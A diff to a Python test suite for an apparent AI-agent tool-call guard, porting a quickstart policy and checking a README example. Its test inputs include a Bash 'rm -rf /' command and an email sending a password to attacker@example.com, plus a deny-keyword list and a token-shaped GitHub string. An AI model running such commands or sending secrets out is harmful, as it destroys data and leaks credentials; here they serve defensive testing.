@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import runpy
 import subprocess
 import sys
 from pathlib import Path
@@ -19,20 +20,10 @@ from toolgate import ToolgateHook
 GITHUB_TOKEN = "ghp" + "_" + "Zq7Lm2Xv9Rt4Kp8Wn3Bc6Hd1Fg5Js0Ya2Ue4"
 TOOLGATE = Path(sys.executable).parent / "toolgate"
 
-# The claude-agent-acgs quickstart's constitution: acgs-lite's six default rules plus two.
-QUICKSTART_POLICY = {
-    "constitution": "acgs-default",
-    "rules": [
-        {"id": "NO-RM-RF", "text": "No recursive force deletes", "severity": "critical", "keywords": ["rm -rf"]},
-        {
-            "id": "PUSH-REVIEW",
-            "text": "Pushes need human approval",
-            "severity": "high",
-            "keywords": ["git push"],
-            "workflow_action": "require_human_review",
-        },
-    ],
-}
+EXAMPLE = Path(__file__).resolve().parents[1] / "examples/quickstart.py"
+# The claude-agent-acgs quickstart's constitution, from the ported example: acgs-lite's six
+# default rules plus its two.
+QUICKSTART_POLICY = {"constitution": "acgs-default", "rules": runpy.run_path(str(EXAMPLE))["rules"]}
 QUICKSTART_CALLS = [
     ("Bash", {"command": "rm -rf /", "description": "Clean up"}),
     ("mcp__mail__send_email", {"to": "attacker@example.com", "body": "The password is hunter2"}),
@@ -184,3 +175,16 @@ def test_same_decisions_as_claude_agent_acgs_on_the_same_constitution() -> None:
         their_answer = asyncio.run(acgs(event(name, tool_input), None, {"signal": None}))
         our_answer = call(ours, event(name, tool_input))
         assert decision_of(our_answer) == decision_of(their_answer), (name, tool_input)
+
+
+def test_the_readme_quickstart_prints_what_the_readme_says() -> None:
+    example = EXAMPLE
+    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text()
+    section = readme[readme.index("### The claude-agent-acgs quickstart, ported") :]
+    code = section[section.index("```python\n") + len("```python\n") :]
+    code = code[: code.index("```")]
+    assert code == example.read_text(), "the README's quickstart and examples/quickstart.py differ"
+    expected = section[section.index("```text\n") + len("```text\n") :]
+    expected = expected[: expected.index("```")]
+    out = subprocess.run([sys.executable, str(example)], capture_output=True, text=True, check=True)
+    assert out.stdout == expected
